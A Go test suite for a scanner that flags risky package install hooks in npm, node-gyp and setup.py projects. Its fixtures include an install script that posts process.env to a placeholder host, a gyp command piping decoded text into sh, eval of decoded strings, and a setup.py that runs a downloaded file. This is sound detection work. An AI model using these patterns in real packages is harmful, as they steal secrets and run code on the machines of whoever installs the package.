package install_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"
)

// look scans a folder of files and returns "severity rule path:line" of what
// was found, and the notes.
func look(t testing.TB, files map[string]string) (found, notes []string) {
	t.Helper()
	res := run(t, files)
	for _, f := range res.Findings {
		found = append(found, fmt.Sprintf("%s %s %s:%d", f.Severity, strings.TrimPrefix(f.Rule, "install/"), f.Location.Path, f.Location.Line))
	}
	for _, n := range res.Notes {
		notes = append(notes, n.Path+": "+n.Text)
	}
	slices.Sort(found)
	return found, notes
}

func TestWhatIsReadOfAPackage(t *testing.T) {
	const runs = `{"scripts": {"postinstall": "node install.js"}}`
	for _, test := range []struct {
		name  string
		files map[string]string
		want  []string
	}{
		{"a script that is not there", map[string]string{"package.json": runs},
			[]string{"low npm-script package.json:1"}},
		{"files outside of the package", map[string]string{
			"node_modules/a/package.json": `{"scripts": {"install": "node ../b/x.js"}}`, "node_modules/b/x.js": "fetch('https://registry.example')"},
			[]string{"low npm-script node_modules/a/package.json:1"}},
		{"two levels, not three", map[string]string{
			"package.json": runs, "install.js": "require('./1')", "1.js": "require('./2')", "2.js": "fetch('https://registry.example');require('./3')", "3.js": "eval(atob('YQ=='))"},
			[]string{"low npm-script package.json:1", "low script-connects 2.js:1"}},
		{"files that load each other", map[string]string{
			"package.json": runs, "install.js": "require('./install.js');require('./b')", "b.js": "require('./install');fetch('https://registry.example')"},
			[]string{"low npm-script package.json:1", "low script-connects b.js:1"}},
		{"another folder", map[string]string{
			"package.json": `{"scripts": {"install": "cd lib && node ./go"}}`, "lib/go.js": "\nfetch('https://registry.example')"},
			[]string{"low npm-script package.json:1", "low script-connects lib/go.js:2"}},
		{"the environment among other things", map[string]string{
			"package.json": runs, "install.js": "const d = JSON.stringify({h: os.hostname(), e: process.env})\nfetch('https://registry.example', {body: d})"},
			[]string{"high script-reads-secrets install.js:1", "low npm-script package.json:1", "low script-connects install.js:2"}},
		{"code made small that decodes far from where it runs", map[string]string{
			"package.json": runs, "install.js": "var a=Buffer.from(b,'base64');" + strings.Repeat("var c=1;", 500) + "Function(a)"},
			[]string{"low npm-script package.json:1"}},
		{"gyp commands and the script that one runs", map[string]string{
			"package.json": `{"scripts": {"install": "node-gyp rebuild"}}`,
			"binding.gyp":  "{'targets': [{'a': '<!(node -p \"require(\\'nan\\')\")',\n'b': '<!(uname -m)', 'c': '<!(node x.js)',\n'd': '<!(echo YQ== | base64 -d | sh)'}],\n'includes': ['common.gypi']}",
			"common.gypi":  `{"variables": {"a": "<!@(pkg-config --libs a)"}}`,
			"x.js":         "eval(atob('YQ=='))"},
			[]string{"high gyp-command binding.gyp:3", "high script-decodes-and-runs x.js:1", "info gyp-command binding.gyp:1", "info gyp-command binding.gyp:2", "info gyp-command common.gypi:1", "info npm-build package.json:1", "low gyp-command binding.gyp:2"}},
		{"a binding.gyp that nothing builds", map[string]string{
			"package.json": `{"gypfile": false}`, "binding.gyp": `{"a": "<!(curl x)"}`},
			nil},
		{"setup.py that runs the file that it fetched", map[string]string{
			"setup.py": "import subprocess\npath = 'a'\nwith open(path, 'wb') as f:\n    f.write(urlopen(url).read())\nsubprocess.Popen([path])\n"},
			[]string{"high python-setup-fetches setup.py:5"}},
		{"setup.py that fetches sources and compiles", map[string]string{
			"setup.py": "import subprocess\ndata = urlopen(url).read()\nsubprocess.check_call(['make'])\n"},
			[]string{"low python-setup-runs setup.py:2"}},
	} {
		t.Run(test.name, func(t *testing.T) {
			got, notes := look(t, test.files)
			if !slices.Equal(got, test.want) || len(notes) > 0 {
				t.Errorf("found %q, notes %q; want %q", got, notes, test.want)
			}
		})
	}
}

func TestNotes(t *testing.T) {
	many := map[string]string{"package.json": `{"scripts": {"install": "node index.js"}}`}
	for i := range 40 {
		many["index.js"] += fmt.Sprintf("require('./%d')\n", i)
		many[fmt.Sprintf("%d.js", i)] = "1"
	}
	for _, test := range []struct {
		name  string
		files map[string]string
		want  string
	}{
		{"not a string", map[string]string{"package.json": `{"scripts": {"postinstall": ["curl"]}}`}, "package.json: not looked at: scripts.postinstall is not a string"},
		{"not an object", map[string]string{"package.json": `{"scripts": 1}`}, "package.json: not looked at: scripts is not an object"},
		{"too large", map[string]string{"package.json": `{"scripts": {"install": "node a"}}`, "a.js": strings.Repeat("//\n", 400_000)}, "a.js: not looked at: it runs at installation, and 1171 kB are more than the limit of 1024 kB for such a file"},
		{"too many", many, "package.json: not all looked at: more than 32 files or 4 MB run at installation"},
	} {
		t.Run(test.name, func(t *testing.T) {
			if _, notes := look(t, test.files); !slices.Equal(notes, []string{test.want}) {
				t.Errorf("notes %q; want %q", notes, test.want)
			}
		})
	}
}

func FuzzScripts(f *testing.F) {
	f.Add(`node -r ./a "b" && sh -c 'node x.js'`, "eval(Buffer.from('a','base64'))\n/* */", `{"a": "<!(node 'x.js')", "action": ["a]", 'b']}`)
	f.Add(`\`, "`\n/*", `<!(((`)
	f.Add(`node x.js; npm run install`, "require('../x');require(`.`)\r\n//\xff", `"action": [`)
	f.Fuzz(func(t *testing.T, command, script, gyp string) {
		manifest := fmt.Sprintf(`{"scripts": {"install": %q, "preinstall": "node x.js; ./x.sh; python x.py"}}`, strings.ToValidUTF8(command, ""))
		look(t, map[string]string{"package.json": manifest, "x.js": script, "x.sh": script, "x.py": script, "setup.py": script, "binding.gyp": gyp})
	})
}

// Scripts that run each other thousands of times are not followed to the end.
func TestScriptsThatRunEachOther(t *testing.T) {
	scripts := `"d": "true"`
	for _, s := range [][2]string{{"install", "a"}, {"a", "b"}, {"b", "c"}, {"c", "d"}} {
		scripts += fmt.Sprintf(`, %q: %q`, s[0], strings.Repeat("npm run "+s[1]+";", 4000))
	}
	began := time.Now()
	_, notes := look(t, map[string]string{"package.json": `{"scripts": {` + scripts + `}}`})
	if took := time.Since(began); took > 15*time.Second {
		t.Errorf("it takes %v", took)
	}
	want := []string{"package.json: not all looked at: its scripts run each other, with more than 1 MB of commands"}
	if !slices.Equal(notes, want) {
		t.Errorf("the notes are %q, want %q", notes, want)
	}
}
